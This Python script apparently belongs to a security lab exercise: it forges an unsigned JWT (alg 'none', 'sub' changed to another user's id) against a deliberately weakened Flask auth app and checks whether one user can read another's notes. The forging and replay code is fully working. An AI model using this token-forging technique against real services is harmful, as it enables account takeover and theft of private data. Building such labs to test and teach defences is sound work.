"""Forging an access token with "alg": "none".

Mallory has an account and a command-line app signed in to it. Her access
token is a JWT: she can read it, change "sub" to Alice's id, set the header's
"alg" to "none" and drop the signature.
"""
import base64
import json
import urllib.parse

import lab

# The weak target: step 11 with weak_alg_none.patch, a naive twin that lets
# the token's header say whether the signature needs checking.
WEAK = "patch"
PATCH = "weak_alg_none.patch"
MAX_REQUESTS = 20
MAX_SECONDS = 120      # a safety stop, not a timing: each login costs a real scrypt

ALICE_PASSWORD = "alice has a long passphrase nobody guesses"
MALLORY_PASSWORD = "mallory has a long passphrase of her own"
SECRET = "the spare key is under the third flowerpot"
CLIENT_ID = "flask-auth-cli"
DEVICE_CODE_GRANT = "urn:ietf:params:oauth:grant-type:device_code"


def attack(target):
    alice = logged_in(target, "alice", ALICE_PASSWORD)
    if alice.post("/notes", json={"text": SECRET}).status != 201:
        raise lab.Missing("POST /notes refused alice's note")
    mallory = logged_in(target, "mallory", MALLORY_PASSWORD)
    token = device_sign_in(target, mallory, "mallory's app")
    header, claims = parts(token)
    evidence = [f"mallory's own access token says: alg {header['alg']}, sub {claims['sub']}"]
    forged_claims = {**claims, "sub": str(int(claims["sub"]) - 1)}  # ids count up: alice registered first
    forged = f"{encoded({**header, 'alg': 'none'})}.{encoded(forged_claims)}."
    evidence.append(f"she sends one with alg none, sub {forged_claims['sub']} and no signature")
    answer = target.client("mallory's app").get("/notes", headers={"Authorization": f"Bearer {forged}"})
    shown = "with alice's note in it" if SECRET in answer.text else answer.text.strip()
    evidence.append(f"  GET /notes -> {answer.status} {shown}")
    if answer.status == 200 and SECRET in answer.text:
        evidence.append("mallory reads alice's notes: the app let the token say it needn't be checked")
        return lab.Outcome(got_through=True, evidence=evidence)
    evidence.append("401: the algorithm is the app's (ES256), never the token's, so an unsigned token is nothing")
    return lab.Outcome(got_through=False, evidence=evidence)


def logged_in(target, name, password):
    target.verified_user(name, f"{name}@example.com", password)
    browser = target.client(name)
    answer = browser.post("/auth/login", json={"username": name, "password": password})
    if answer.status != 200:
        raise lab.Missing(f"{name}'s login answered {answer.status}")
    return browser


def device_sign_in(target, browser, app_name):
    """The device flow: the app asks, the logged-in browser approves, the app collects. Its access token."""
    app = target.client(app_name)
    started = app.post("/auth/device", data=form(client_id=CLIENT_ID))
    if started.status != 200:
        raise lab.Missing(f"POST /auth/device answered {started.status}: no device flow")
    code = started.json
    if browser.post("/auth/device/approve", json={"user_code": code["user_code"]}).status != 200:
        raise lab.Missing("the browser could not approve the code")
    tokens = app.post("/auth/token", data=form(grant_type=DEVICE_CODE_GRANT, device_code=code["device_code"],
                                               client_id=CLIENT_ID))
    if tokens.status != 200:
        raise lab.Missing(f"POST /auth/token answered {tokens.status}")
    return tokens.json["access_token"]


def form(**fields):
    return urllib.parse.urlencode(fields).encode()


def parts(token):
    header, claims, _ = token.split(".")
    return decoded(header), decoded(claims)


def decoded(part):
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def encoded(part):
    return base64.urlsafe_b64encode(json.dumps(part).encode()).rstrip(b"=").decode()
